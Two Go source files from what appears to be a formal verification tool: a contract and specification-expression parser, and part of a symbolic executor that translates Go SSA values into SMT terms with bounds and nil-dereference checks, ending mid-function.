		if cl.Label == "" {
			cl.Label = fmt.Sprintf("req%d", len(ct.Requires)+1)
		}
		ct.Requires = append(ct.Requires, *cl)
	case "ensures", "names":
		if cl.Label == "" {
			cl.Label = fmt.Sprintf("ens%d", len(ct.Ensures)+1)
		}
		cl.Names = kind == "names"
		ct.Ensures = append(ct.Ensures, *cl)
	case "modifies":
		ct.Modifies = append(ct.Modifies, *cl)
	}
}

func (cx *Contracts) bindFunc(ct *Contract) {
	recv, name := "", ct.Key
	if strings.HasPrefix(ct.Key, "(") {
		i := strings.Index(ct.Key, ").")
		if i < 0 {
			cx.errorf("%s: bad function key %q", ct.File.Path, ct.Key)
			return
		}
		recv, name = ct.Key[1:i], ct.Key[i+2:]
	}
	// anonymous functions: Name$1
	fn := cx.P.lookupFunc(ct.PkgPath, recv, name)
	if fn == nil && strings.Contains(name, "$") {
		base := name[:strings.Index(name, "$")]
		if parent := cx.P.lookupFunc(ct.PkgPath, recv, base); parent != nil {
			for _, an := range parent.AnonFuncs {
				if an.Name() == name {
					fn = an
				}
			}
		}
	}
	if fn == nil {
		cx.errorf("%s: contract target %s not found in %s", ct.File.Path, ct.Key, ct.PkgPath)
		return
	}
	ct.Fn = fn
	if old := cx.byFn[fn]; old != nil {
		cx.errorf("%s: duplicate contract for %s", ct.File.Path, ct.Key)
	}
	cx.byFn[fn] = ct
}

func (cx *Contracts) bindIface(ct *Contract, spec string) {
	// alias.Iface.Method(p1, p2, ...)
	params := ""
	if i := strings.Index(spec, "("); i >= 0 {
		params = strings.TrimSuffix(spec[i+1:], ")")
		spec = spec[:i]
	}
	parts := strings.Split(spec, ".")
	if len(parts) < 2 {
		cx.errorf("%s: bad iface key %q", ct.File.Path, spec)
		return
	}
	var pkgPath, in, m string
	if len(parts) == 3 {
		pkgPath = ct.File.Imports[parts[0]]
		if pkgPath == "" {
			pkgPath = cx.resolveAlias(ct.File, parts[0])
		}
		in, m = parts[1], parts[2]
	} else {
		pkgPath, in, m = ct.PkgPath, parts[0], parts[1]
	}
	ct.IfaceType = pkgPath + "." + in
	ct.Method = m
	ct.Params = []string{"recv"}
	for _, p := range strings.Split(params, ",") {
		if p = strings.TrimSpace(p); p != "" {
			ct.Params = append(ct.Params, p)
		}
	}
	cx.iface[ct.IfaceType+"."+m] = ct
}

func (cx *Contracts) resolveAlias(cf *ContractFile, alias string) string {
	if p, ok := cf.Imports[alias]; ok {
		return p
	}
	// imports of the package itself
	for _, imp := range cf.Pkg.Imports() {
		if imp.Name() == alias {
			return imp.Path()
		}
	}
	// unique short name among loaded packages
	if ps := cx.P.ByName[alias]; len(ps) == 1 {
		return ps[0]
	}
	return ""
}

func (cx *Contracts) parseSpec(cf *ContractFile, text string) {
	// name(p1 T1, p2 T2) R
	i := strings.Index(text, "(")
	j := strings.LastIndex(text, ")")
	if i < 0 || j < i {
		cx.errorf("%s: bad spec %q", cf.Path, text)
		return
	}
	sf := &SpecFunc{Name: strings.TrimSpace(text[:i]), Ret: strings.TrimSpace(text[j+1:]), File: cf}
	for _, p := range splitTopLevel(text[i+1:j], ',') {
		p = strings.TrimSpace(p)
		if p == "" {
			continue
		}
		f := strings.Fields(p)
		if len(f) == 1 {
			sf.Params = append(sf.Params, f[0])
			sf.PNames = append(sf.PNames, fmt.Sprintf("a%d", len(sf.PNames)))
		} else {
			sf.PNames = append(sf.PNames, f[0])
			sf.Params = append(sf.Params, strings.Join(f[1:], " "))
		}
	}
	cx.specs[sf.Name] = sf
}

func (cx *Contracts) parsePred(cf *ContractFile, text string) {
	// name(a, b) := expr
	k := strings.Index(text, ":=")
	if k < 0 {
		cx.errorf("%s: bad pred %q", cf.Path, text)
		return
	}
	head := strings.TrimSpace(text[:k])
	i := strings.Index(head, "(")
	if i < 0 {
		cx.errorf("%s: bad pred head %q", cf.Path, head)
		return
	}
	p := &Pred{Name: strings.TrimSpace(head[:i]), File: cf, Text: strings.TrimSpace(text[k+2:])}
	for _, a := range strings.Split(strings.TrimSuffix(head[i+1:], ")"), ",") {
		if a = strings.TrimSpace(a); a != "" {
			p.Params = append(p.Params, a)
		}
	}
	ex, err := parseSpecExpr(p.Text)
	if err != nil {
		cx.errorf("%s: pred %s: %v", cf.Path, p.Name, err)
		return
	}
	p.Body = ex
	cx.preds[p.Name] = p
}

func splitTopLevel(s string, sep byte) []string {
	var out []string
	d := 0
	last := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '(', '[', '{':
			d++
		case ')', ']', '}':
			d--
		default:
			if s[i] == sep && d == 0 {
				out = append(out, s[last:i])
				last = i + 1
			}
		}
	}
	return append(out, s[last:])
}

// ---------------------------------------------------------------------------
// spec expression syntax: Go expressions + "==>", "<==>", "forall x T :: e", "exists x T :: e"

type tok struct {
	t   token.Token
	lit string
}

func scanTokens(src string) ([]tok, error) {
	var s scanner.Scanner
	fset := token.NewFileSet()
	file := fset.AddFile("", fset.Base(), len(src))
	var errs []string
	s.Init(file, []byte(src), func(pos token.Position, msg string) { errs = append(errs, msg) }, 0)
	var out []tok
	for {
		_, t, lit := s.Scan()
		if t == token.EOF {
			break
		}
		if t == token.SEMICOLON && lit == "\n" {
			continue
		}
		if lit == "" {
			lit = t.String()
		}
		out = append(out, tok{t, lit})
	}
	if len(errs) > 0 {
		return nil, fmt.Errorf("%s", strings.Join(errs, "; "))
	}
	return out, nil
}

// rewriteSpec turns the extended syntax into plain Go source.
func rewriteSpec(toks []tok) (string, error) {
	// a quantifier at depth 0 extends to the end of the expression: rewrite it first and treat it as an atom
	{
		depth := 0
		for k := 0; k < len(toks); k++ {
			switch toks[k].t {
			case token.LPAREN, token.LBRACK, token.LBRACE:
				depth++
			case token.RPAREN, token.RBRACK, token.RBRACE:
				depth--
			}
			if depth == 0 && toks[k].t == token.IDENT && (toks[k].lit == "forall" || toks[k].lit == "exists") && k+1 < len(toks) && toks[k+1].t == token.IDENT {
				q := toks[k:]
				sep := -1
				for i := 1; i+1 < len(q); i++ {
					if q[i].t == token.COLON && q[i+1].t == token.COLON {
						sep = i
						break
					}
				}
				if sep < 3 {
					return "", fmt.Errorf("malformed quantifier")
				}
				name := q[1].lit
				var ty strings.Builder
				for _, t := range q[2:sep] {
					ty.WriteString(t.lit)
				}
				body, err := rewriteSpec(q[sep+2:])
				if err != nil {
					return "", err
				}
				atom := fmt.Sprintf("%s_(func(%s %s) bool { return %s })", q[0].lit, name, ty.String(), body)
				if k == 0 {
					return atom, nil
				}
				toks = append(append([]tok(nil), toks[:k]...), tok{token.IDENT, atom})
				break
			}
		}
	}
	// split on top-level <==> then ==> (right associative)
	depth := 0
	for i := 0; i+2 < len(toks); i++ {
		switch toks[i].t {
		case token.LPAREN, token.LBRACK, token.LBRACE:
			depth++
		case token.RPAREN, token.RBRACK, token.RBRACE:
			depth--
		}
		if depth == 0 && ((toks[i].t == token.LSS && toks[i+1].t == token.EQL && toks[i+2].t == token.GTR) || (toks[i].t == token.LEQ && toks[i+1].t == token.ASSIGN && toks[i+2].t == token.GTR)) {
			l, err := rewriteSpec(toks[:i])
			if err != nil {
				return "", err
			}
			r, err := rewriteSpec(toks[i+3:])
			if err != nil {
				return "", err
			}
			return fmt.Sprintf("iff(%s, %s)", l, r), nil
		}
	}
	depth = 0
	for i := 0; i+1 < len(toks); i++ {
		switch toks[i].t {
		case token.LPAREN, token.LBRACK, token.LBRACE:
			depth++
		case token.RPAREN, token.RBRACK, token.RBRACE:
			depth--
		}
		if depth == 0 && toks[i].t == token.EQL && toks[i+1].t == token.GTR {
			l, err := rewriteSpec(toks[:i])
			if err != nil {
				return "", err
			}
			r, err := rewriteSpec(toks[i+2:])
			if err != nil {
				return "", err
			}
			return fmt.Sprintf("implies(%s, %s)", l, r), nil
		}
	}
	// no top-level implication: recurse into parenthesised groups
	var b strings.Builder
	for i := 0; i < len(toks); i++ {
		t := toks[i]
		if t.t == token.LPAREN {
			// find matching
			d := 0
			j := i
			for ; j < len(toks); j++ {
				if toks[j].t == token.LPAREN {
					d++
				} else if toks[j].t == token.RPAREN {
					d--
					if d == 0 {
						break
					}
				}
			}
			if j >= len(toks) {
				return "", fmt.Errorf("unbalanced parentheses")
			}
			// arguments separated by commas at depth 1
			inner := toks[i+1 : j]
			var parts [][]tok
			dd := 0
			last := 0
			for k, x := range inner {
				switch x.t {
				case token.LPAREN, token.LBRACK, token.LBRACE:
					dd++
				case token.RPAREN, token.RBRACK, token.RBRACE:
					dd--
				case token.COMMA:
					if dd == 0 {
						parts = append(parts, inner[last:k])
						last = k + 1
					}
				}
			}
			parts = append(parts, inner[last:])
			b.WriteString("(")
			for k, p := range parts {
				if k > 0 {
					b.WriteString(", ")
				}
				if len(p) == 0 {
					continue
				}
				s, err := rewriteSpec(p)
				if err != nil {
					return "", err
				}
				b.WriteString(s)
			}
			b.WriteString(")")
			i = j
			continue
		}
		if t.t == token.STRING || t.t == token.CHAR {
			b.WriteString(t.lit)
		} else {
			b.WriteString(t.lit)
		}
		// spacing
		if i+1 < len(toks) {
			n := toks[i+1]
			if needSpace(t, n) {
				b.WriteString(" ")
			}
		}
	}
	return b.String(), nil
}

func needSpace(a, b tok) bool {
	if a.t == token.PERIOD || b.t == token.PERIOD || b.t == token.LPAREN || b.t == token.COMMA || b.t == token.RPAREN || b.t == token.LBRACK || b.t == token.RBRACK || a.t == token.LBRACK || a.t == token.LPAREN {
		return false
	}
	return true
}

func parseSpecExpr(text string) (ast.Expr, error) {
	text = strings.ReplaceAll(text, "$", "dollar_")
	toks, err := scanTokens(text)
	if err != nil {
		return nil, err
	}
	src, err := rewriteSpec(toks)
	if err != nil {
		return nil, err
	}
	ex, err := parser.ParseExpr(src)
	if err != nil {
		return nil, fmt.Errorf("%v (rewritten: %s)", err, src)
	}
	return ex, nil
}

// moduleDir: "x/rvesting" for ".../teleport/x/rvesting/keeper".
func moduleDir(pkgPath string) string {
	p := strings.TrimPrefix(pkgPath, modPath+"/")
	parts := strings.Split(p, "/")
	if len(parts) >= 2 {
		return parts[0] + "/" + parts[1]
	}
	return p
}

// externFor picks the assumed contract for a call name; when several axiom files define it, the one
// whose scope package lies in the same module directory as the function being verified wins.
func (cx *Contracts) externFor(name string, top *ssa.Function) *Contract {
	cs := cx.externAll[name]
	if len(cs) == 0 {
		return nil
	}
	if len(cs) == 1 || top == nil || top.Pkg == nil {
		return cs[len(cs)-1]
	}
	md := moduleDir(top.Pkg.Pkg.Path())
	for _, c := range cs {
		if moduleDir(c.PkgPath) == md {
			return c
		}
	}
	return cs[len(cs)-1]
}
