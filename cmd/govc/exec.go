package main

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type Out struct {
	st  *State
	res Val
}

type Frame struct {
	fn        *ssa.Function
	regs      map[ssa.Value]Val
	inLoop    map[*ssa.BasicBlock]bool
	depth     int
	defers    []ssa.CallCommon
	unroll    map[*ssa.BasicBlock]int
	loopFrame map[string]string
	loopVars  map[string]Val // variables introduced by "loop N forkey"
}

func (f *Frame) clone() *Frame {
	n := &Frame{fn: f.fn, regs: make(map[ssa.Value]Val, len(f.regs)), inLoop: make(map[*ssa.BasicBlock]bool, len(f.inLoop)), depth: f.depth}
	for k, v := range f.regs {
		n.regs[k] = v
	}
	for k, v := range f.inLoop {
		n.inLoop[k] = v
	}
	if f.loopVars != nil {
		n.loopVars = map[string]Val{}
		for k, v := range f.loopVars {
			n.loopVars[k] = v
		}
	}
	if f.loopFrame != nil {
		n.loopFrame = map[string]string{}
		for k, v := range f.loopFrame {
			n.loopFrame[k] = v
		}
	}
	if f.unroll != nil {
		n.unroll = map[*ssa.BasicBlock]int{}
		for k, v := range f.unroll {
			n.unroll[k] = v
		}
	}
	return n
}

// ---------------------------------------------------------------------------
// value helpers

func (e *Env) sortOfT(t types.Type) string {
	if isNamed(t, "time", "Time") {
		e.D.declSort("Time")
		return "Time"
	}
	return e.S.sortOf(t)
}

// symbolic creates an unconstrained value of Go type t.
func (e *Env) symbolic(st *State, t types.Type, name string) Val {
	if isCtxType(t) {
		w := e.newRootWorld(st, name)
		return Val{K: kCtx, Typ: t, World: w, Sort: "Ctx", T: e.D.namedConst("ctx_"+name, e.sortOfT(t))}
	}
	if strings.HasSuffix(t.String(), "tm-db.Iterator") || strings.HasSuffix(t.String(), "cosmos-sdk/store/types.Iterator") || strings.HasSuffix(t.String(), "cosmos-sdk/types.Iterator") {
		// an iterator handed in as a parameter: positioned somewhere in an unknown store
		w := e.newRootWorld(st, name)
		e.iterN++
		it := &IterRef{ID: e.iterN, Store: &StoreRef{World: w, Comp: "pstore", Prefix: []Seg{}}, Prefix: []Seg{}}
		e.iterHavoc(st, it)
		return Val{K: kIter, Typ: t, Iter: it}
	}
	if isKVStoreType(t) {
		// a store handed in as a parameter (light clients get their client's prefix store): its own KV component
		w := e.newRootWorld(st, name)
		return Val{K: kStore, Typ: t, Store: &StoreRef{World: w, Comp: "pstore", Prefix: []Seg{}}}
	}
	if p, ok := t.Underlying().(*types.Pointer); ok && !isMathInt(p.Elem()) {
		if _, isStruct := p.Elem().Underlying().(*types.Struct); isStruct {
			inner := e.symbolic(st, p.Elem(), name+"_v")
			c := e.newCell(st, inner)
			return Val{K: kPtr, Typ: t, Ptr: &Pointer{Cell: c}}
		}
	}
	s := e.sortOfT(t)
	v := Val{K: kTerm, Typ: t, Sort: s, T: e.D.fresh(name, s)}
	if s == sStr {
		// lengths of strings and byte slices are non-negative Go ints far below 2^62 (memory): without this a
		// symbolic length may be "negative" as a signed 64-bit vector
		st.define(tApp("bvult", tApp("slen64", v.T), bvLit(1<<40, 64)))
	}
	return v
}

func (e *Env) zero(st *State, t types.Type) Val {
	if isMathInt(t) {
		return termVal(t, sInt, "0")
	}
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case u.Info()&types.IsBoolean != 0:
			return termVal(t, sBool, "false")
		case u.Info()&types.IsString != 0:
			return Val{K: kTerm, Typ: t, Sort: sStr, T: "emptyStr", Segs: []Seg{}}
		case u.Info()&types.IsInteger != 0:
			w := intWidth(u)
			return termVal(t, bvSort(w), bvLit(0, w))
		}
	case *types.Struct:
		if isCtxType(t) || isNamed(t, "time", "Time") {
			break
		}
		v := Val{K: kRecord, Typ: t, Sort: e.sortOfT(t)}
		for i := 0; i < u.NumFields(); i++ {
			v.Elems = append(v.Elems, e.zero(st, u.Field(i).Type()))
		}
		return v
	case *types.Array:
		if u.Len() <= 64 {
			v := Val{K: kArr, Typ: t, Sort: e.sortOfT(t)}
			for i := int64(0); i < u.Len(); i++ {
				v.Elems = append(v.Elems, e.zero(st, u.Elem()))
			}
			return v
		}
	case *types.Slice:
		if isByteElem(u.Elem()) {
			return termVal(t, sStr, "nilStr")
		}
		s := e.sortOfT(t)
		return Val{K: kArr, Typ: t, Sort: s, Elems: []Val{}}
	case *types.Pointer:
		s := e.sortOfT(t)
		return termVal(t, s, "none_"+s)
	case *types.Interface:
		return termVal(t, sIface, "nilI")
	case *types.Map:
		s := e.sortOfT(t)
		ks := e.sortOfT(u.Key())
		vs := e.sortOfT(u.Elem())
		return termVal(t, s, fmt.Sprintf("(mk_%s ((as const (Array %s Bool)) false) %s)", s, ks, e.D.fresh("mapval", fmt.Sprintf("(Array %s %s)", ks, vs))))
	}
	s := e.sortOfT(t)
	return termVal(t, s, e.D.namedConst("zero_"+mangleSort(s), s))
}

// term converts any value to an SMT term of the sort of its Go type.
func (e *Env) term(st *State, v Val) string {
	switch v.K {
	case kTerm:
		return v.T
	case kRecord:
		s := e.sortOfT(v.Typ)
		if len(v.Elems) == 0 {
			return "mk_" + s
		}
		var fs []string
		fis := e.S.fields(s)
		for i, el := range v.Elems {
			t := e.term(st, el)
			_ = fis
			_ = i
			fs = append(fs, t)
		}
		return "(mk_" + s + " " + strings.Join(fs, " ") + ")"
	case kPtr:
		s := e.sortOfT(v.Typ)
		if v.Nil != "" {
			return tIte(v.Nil, "none_"+s, "(some_"+s+" "+e.term(st, e.load(st, v.Ptr))+")")
		}
		return "(some_" + s + " " + e.term(st, e.load(st, v.Ptr)) + ")"
	case kIface:
		return e.box(st, *v.Inner)
	case kArr:
		return e.arrTerm(st, v)
	case kCtx:
		return v.T
	case kStore:
		e.D.declSort("StoreV")
		if v.Frozen != "" {
			return v.Frozen
		}
		return e.D.uf("storeview", []string{e.compSort(v.Store.Comp), sStr}, "StoreV", e.readComp(st, v.Store.World, v.Store.Comp), e.segsTerm(v.Store.Prefix))
	case kClosure:
		e.D.declSort("Func")
		name := "closure"
		if v.Fn != nil {
			name = "fn_" + v.Fn.Name()
		}
		return e.D.namedConst(name, "Func")
	case kUnit:
		return "true"
	case kIter:
		e.D.declSort("IterV")
		return e.D.namedConst(fmt.Sprintf("iter%d", v.Iter.ID), "IterV")
	}
	e.fail("term: unsupported value kind %d", v.K)
	return "true"
}

func (e *Env) arrTerm(st *State, v Val) string {
	s := e.sortOfT(v.Typ)
	if s == sStr {
		// byte array/slice: literal if all constant
		var sb strings.Builder
		allLit := true
		for _, el := range v.Elems {
			if x, _, ok := bvLitVal(el.T); ok && el.K == kTerm {
				sb.WriteByte(byte(x))
			} else {
				allLit = false
				break
			}
		}
		if allLit {
			return e.D.strLit(sb.String())
		}
		name := e.D.fresh("bytes", sStr)
		return name
	}
	es := sliceElemSort(e.D, s)
	// deterministic base array: two conversions of the same concrete slice must yield equal terms
	arr := e.D.namedConst("basearr_"+mangleSort(es), fmt.Sprintf("(Array (_ BitVec 64) %s)", es))
	t := arr
	for i, el := range v.Elems {
		t = fmt.Sprintf("(store %s %s %s)", t, bvLit(uint64(i), 64), e.term(st, el))
	}
	return fmt.Sprintf("(mk_%s %s %s)", s, bvLit(uint64(len(v.Elems)), 64), t)
}

// box turns a concrete value into an Iface term.
func (e *Env) box(st *State, inner Val) string {
	if inner.Typ == nil {
		return "nilI"
	}
	if _, ok := inner.Typ.Underlying().(*types.Interface); ok {
		return e.term(st, inner)
	}
	s := e.termSort(inner)
	key := typeKey(inner.Typ)
	tag := e.D.typeTag(key)
	bn := "box_" + mangleSort(s) + fmt.Sprintf("_t%d", tag)
	it := e.term(st, inner)
	b := e.D.uf(bn, []string{s}, sIface, it)
	un := "un" + bn
	e.D.uf(un, []string{sIface}, s, b)
	st.define(tEq(tApp(un, b), it))
	st.define(tEq(tApp("tagof", b), intLit(int64(tag))))
	st.define(tNot(tEq(b, "nilI")))
	e.nonNil[b] = true
	return b
}

// termSort is the SMT sort of e.term(v) (special Go-side kinds have their own sorts).
func (e *Env) termSort(v Val) string {
	switch v.K {
	case kStore:
		e.D.declSort("StoreV")
		return "StoreV"
	case kIter:
		e.D.declSort("IterV")
		return "IterV"
	case kClosure:
		e.D.declSort("Func")
		return "Func"
	case kCtx:
		return "Ctx"
	case kIface:
		return sIface
	}
	return e.sortOfT(v.Typ)
}

func (e *Env) unbox(st *State, iface string, t types.Type) string {
	s := e.sortOfT(t)
	tag := e.D.typeTag(typeKey(t))
	bn := "box_" + mangleSort(s) + fmt.Sprintf("_t%d", tag)
	e.D.uf(bn, []string{s}, sIface, "x")
	un := "un" + bn
	r := e.D.uf(un, []string{sIface}, s, iface)
	return r
}

func (e *Env) wrapTerm(t types.Type, term string) Val {
	return Val{K: kTerm, Typ: t, Sort: e.sortOfT(t), T: term}
}

// explode turns a struct-sorted term into a record of selector terms.
func (e *Env) explode(st *State, v Val) Val {
	if v.K == kRecord {
		return v
	}
	u, ok := v.Typ.Underlying().(*types.Struct)
	if !ok {
		e.fail("explode: not a struct: %s", v.Typ)
		return v
	}
	s := e.sortOfT(v.Typ)
	fis := e.S.fields(s)
	r := Val{K: kRecord, Typ: v.Typ, Sort: s}
	for i := 0; i < u.NumFields(); i++ {
		if i < len(fis) {
			r.Elems = append(r.Elems, e.wrapTerm(u.Field(i).Type(), tApp(fis[i].Sel, v.T)))
		} else {
			r.Elems = append(r.Elems, e.symbolic(st, u.Field(i).Type(), "f"))
		}
	}
	return r
}

func (e *Env) field(st *State, v Val, i int) Val {
	switch v.K {
	case kRecord:
		return v.Elems[i]
	case kTerm:
		u, ok := v.Typ.Underlying().(*types.Struct)
		if !ok {
			e.fail("field of non-struct %s", v.Typ)
			return v
		}
		s := e.sortOfT(v.Typ)
		fis := e.S.fields(s)
		if i >= len(fis) {
			return e.symbolic(st, u.Field(i).Type(), "f")
		}
		ft := u.Field(i).Type()
		if isCtxType(ft) {
			return e.symbolic(st, ft, "ctxfield")
		}
		return e.wrapTerm(ft, tApp(fis[i].Sel, v.T))
	}
	e.fail("field: unsupported value kind %d (%v)", v.K, v.Typ)
	return v
}

func (e *Env) setField(st *State, v Val, i int, nv Val) Val {
	r := e.explode(st, v)
	out := r
	out.Elems = append([]Val(nil), r.Elems...)
	out.Elems[i] = nv
	return out
}

func elemType(t types.Type) types.Type {
	switch u := t.Underlying().(type) {
	case *types.Slice:
		return u.Elem()
	case *types.Array:
		return u.Elem()
	case *types.Pointer:
		return elemType(u.Elem())
	case *types.Basic:
		return types.Typ[types.Uint8]
	case *types.Map:
		return u.Elem()
	}
	return nil
}

// lenOf returns the length term (BV64) of a slice/array/string value.
func (e *Env) lenOf(st *State, v Val) string {
	switch v.K {
	case kArr:
		return bvLit(uint64(len(v.Elems)), 64)
	}
	if a, ok := v.Typ.Underlying().(*types.Array); ok {
		return bvLit(uint64(a.Len()), 64)
	}
	s := e.sortOfT(v.Typ)
	if s == sStr {
		if v.Segs != nil {
			if n, ok := segsConstLen(v.Segs); ok {
				return bvLit(uint64(n), 64)
			}
		}
		t := e.term(st, v)
		return e.slenBV(st, t)
	}
	if strings.HasPrefix(s, "Slice_") {
		return tApp("len_"+s, e.term(st, v))
	}
	if strings.HasPrefix(s, "Map_") {
		return e.D.uf("maplen_"+s, []string{s}, bvSort(64), e.term(st, v))
	}
	e.fail("len of %s", v.Typ)
	return bvLit(0, 64)
}

// slenBV: length of a Str as BV64 (uninterpreted slen64; sums of lengths are assumed not to wrap).
func (e *Env) slenBV(st *State, t string) string {
	return tApp("slen64", t)
}

func (e *Env) index(st *State, v Val, idx string, pos token.Pos) Val {
	et := elemType(v.Typ)
	if v.K == kArr {
		if c, _, ok := bvLitVal(idx); ok {
			if int(c) < len(v.Elems) {
				return v.Elems[c]
			}
			e.safety(st, "false", "index-in-range", pos)
			return e.symbolic(st, et, "oob")
		}
		// symbolic index into concrete array: ite chain over terms
		e.safety(st, tApp("bvult", idx, bvLit(uint64(len(v.Elems)), 64)), "index-in-range", pos)
		if len(v.Elems) == 0 {
			return e.symbolic(st, et, "oob")
		}
		t := e.term(st, v.Elems[len(v.Elems)-1])
		for i := len(v.Elems) - 2; i >= 0; i-- {
			t = tIte(tEq(idx, bvLit(uint64(i), 64)), e.term(st, v.Elems[i]), t)
		}
		return e.wrapTerm(et, t)
	}
	s := e.sortOfT(v.Typ)
	e.safety(st, tApp("bvult", idx, e.lenOf(st, v)), "index-in-range", pos)
	if s == sStr {
		if v.Segs != nil {
			if c, _, ok := bvLitVal(idx); ok {
				if b, ok2 := segsByteAt(v.Segs, int(c)); ok2 {
					return e.wrapTerm(et, b)
				}
			}
		}
		return e.wrapTerm(et, e.D.uf("sbyte", []string{sStr, bvSort(64)}, bvSort(8), e.term(st, v), idx))
	}
	if strings.HasPrefix(s, "Slice_") {
		return e.wrapTerm(et, fmt.Sprintf("(select (arr_%s %s) %s)", s, e.term(st, v), idx))
	}
	e.fail("index of %s", v.Typ)
	return e.symbolic(st, et, "idx")
}

func (e *Env) setIndex(st *State, v Val, idx string, nv Val, pos token.Pos) Val {
	if v.K == kArr {
		if c, _, ok := bvLitVal(idx); ok && int(c) < len(v.Elems) {
			out := v
			out.Elems = append([]Val(nil), v.Elems...)
			out.Elems[c] = nv
			out.Segs = nil
			return out
		}
	}
	s := e.sortOfT(v.Typ)
	e.safety(st, tApp("bvult", idx, e.lenOf(st, v)), "index-in-range", pos)
	if strings.HasPrefix(s, "Slice_") {
		t := e.term(st, v)
		return e.wrapTerm(v.Typ, fmt.Sprintf("(mk_%s (len_%s %s) (store (arr_%s %s) %s %s))", s, s, t, s, t, idx, e.term(st, nv)))
	}
	if s == sStr {
		// byte write into symbolic bytes: result is an unknown string of same length
		r := e.D.fresh("bytes_upd", sStr)
		st.assume(tEq(tApp("slen64", r), tApp("slen64", e.term(st, v))))
		return e.wrapTerm(v.Typ, r)
	}
	e.fail("setIndex of %s", v.Typ)
	return v
}

// safety: under nopanic it is an obligation, otherwise an assumption (paths that panic are not normal returns).
func (e *Env) safety(st *State, cond, label string, pos token.Pos) {
	cond = foldCmp(cond)
	if cond == "true" || e.specMode > 0 {
		return
	}
	if e.nopanic && e.specMode == 0 {
		site := label + "@" + e.pos(pos)
		e.oblige(st, "nopanic", site, cond, "", pos)
		if n := len(e.obls); n > 0 && e.obls[n-1].Kind == "nopanic" {
			e.obls[n-1].Site = site
		}
		ns := make(map[string]bool, len(st.sites)+1)
		for k := range st.sites {
			ns[k] = true
		}
		ns[site] = true
		st.sites = ns
	}
	st.assume(cond)
}

func (e *Env) load(st *State, p *Pointer) Val {
	v, ok := st.cells[p.Cell]
	if !ok {
		e.fail("load of unknown cell %d", p.Cell)
		return Val{K: kUnit}
	}
	for _, el := range p.Path {
		if el.Field >= 0 {
			v = e.field(st, v, el.Field)
		} else {
			v = e.index(st, v, el.Idx, token.NoPos)
		}
	}
	return v
}

func (e *Env) store(st *State, p *Pointer, nv Val) {
	if p.RO {
		e.notes["write through pointer loaded from a data structure (not propagated to the owner)"]++
	}
	root := st.cells[p.Cell]
	st.cells[p.Cell] = e.update(st, root, p.Path, nv)
}

func (e *Env) update(st *State, v Val, path []PathEl, nv Val) Val {
	if len(path) == 0 {
		return nv
	}
	el := path[0]
	if el.Field >= 0 {
		sub := e.field(st, e.explode(st, v), el.Field)
		return e.setField(st, v, el.Field, e.update(st, sub, path[1:], nv))
	}
	sub := e.index(st, v, el.Idx, token.NoPos)
	return e.setIndex(st, v, el.Idx, e.update(st, sub, path[1:], nv), token.NoPos)
}

// deref makes a pointer value usable for load/store.
func (e *Env) asPointer(st *State, v Val, pos token.Pos) *Pointer {
	switch v.K {
	case kPtr:
		if v.Nil != "" {
			e.safety(st, tNot(v.Nil), "nil-deref", pos)
		}
		return v.Ptr
	case kTerm:
		pt, ok := v.Typ.Underlying().(*types.Pointer)
		if !ok {
			e.fail("asPointer: not a pointer %s", v.Typ)
			return &Pointer{Cell: e.newCell(st, Val{K: kUnit})}
		}
		s := e.sortOfT(v.Typ)
		e.safety(st, tNot(tEq(v.T, "none_"+s)), "nil-deref", pos)
		var inner Val
		if isMathInt(pt.Elem()) {
			inner = termVal(pt.Elem(), sInt, tApp("val_"+s, v.T))
		} else {
			inner = e.wrapTerm(pt.Elem(), tApp("val_"+s, v.T))
		}
		c := e.newCell(st, inner)
		return &Pointer{Cell: c, RO: true}
	case kIface:
		return e.asPointer(st, *v.Inner, pos)
	}
	e.fail("asPointer: unsupported kind %d", v.K)
	return &Pointer{Cell: e.newCell(st, Val{K: kUnit})}
}

// ---------------------------------------------------------------------------
// interpreter

func (e *Env) constVal(st *State, c *ssa.Const) Val {
	t := c.Type()
	if c.Value == nil {
		// zero value / nil
		return e.zero(st, t)
	}
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case u.Info()&types.IsBoolean != 0:
			if constant.BoolVal(c.Value) {
				return termVal(t, sBool, "true")
			}
			return termVal(t, sBool, "false")
		case u.Info()&types.IsString != 0:
			s := constant.StringVal(c.Value)
			return Val{K: kTerm, Typ: t, Sort: sStr, T: e.D.strLit(s), Segs: litSegs(s)}
		case u.Info()&types.IsInteger != 0:
			w := intWidth(u)
			if u.Info()&types.IsUnsigned != 0 {
				x, _ := constant.Uint64Val(c.Value)
				return termVal(t, bvSort(w), bvLit(x, w))
			}
			x, _ := constant.Int64Val(c.Value)
			return termVal(t, bvSort(w), bvLit(uint64(x), w))
		}
	}
	return e.symbolic(st, t, "const")
}

func (e *Env) eval(st *State, fr *Frame, v ssa.Value) Val {
	switch x := v.(type) {
	case *ssa.Const:
		return e.constVal(st, x)
	case *ssa.Global:
		return e.globalPtr(st, x)
	case *ssa.Function:
		return Val{K: kClosure, Typ: x.Type(), Fn: x}
	case *ssa.Builtin:
		return Val{K: kClosure, Typ: x.Type()}
	}
	if r, ok := fr.regs[v]; ok {
		return r
	}
	e.fail("eval: no value for %s (%T) in %s", v.Name(), v, fr.fn)
	return Val{K: kUnit}
}

var wellKnownBigGlobals = map[string]int64{
	"github.com/ethereum/go-ethereum/common.Big0": 0, "github.com/ethereum/go-ethereum/common.Big1": 1, "github.com/ethereum/go-ethereum/common.Big2": 2,
	"github.com/ethereum/go-ethereum/common.Big3": 3, "github.com/ethereum/go-ethereum/common.Big32": 32, "github.com/ethereum/go-ethereum/common.Big256": 256,
	"github.com/ethereum/go-ethereum/common.Big257":                 257,
	"github.com/ethereum/go-ethereum/params.DifficultyBoundDivisor": 2048, "github.com/ethereum/go-ethereum/params.GenesisDifficulty": 131072,
	"github.com/ethereum/go-ethereum/params.MinimumDifficulty": 131072, "github.com/ethereum/go-ethereum/params.DurationLimit": 13,
}

// globals are modelled as immutable constants: a read-only cell per global.
func (e *Env) globalPtr(st *State, g *ssa.Global) Val {
	key := "g_" + g.Pkg.Pkg.Name() + "_" + g.Name()
	et := g.Type().(*types.Pointer).Elem()
	s := e.sortOfT(et)
	name := e.D.namedConst(key, s)
	v := e.wrapTerm(et, name)
	if iv, ok := e.globalInit(st, g); ok {
		v = iv
		name = iv.T
	} else if k, ok := wellKnownBigGlobals[g.Pkg.Pkg.Path()+"."+g.Name()]; ok && strings.HasPrefix(s, "Opt_") {
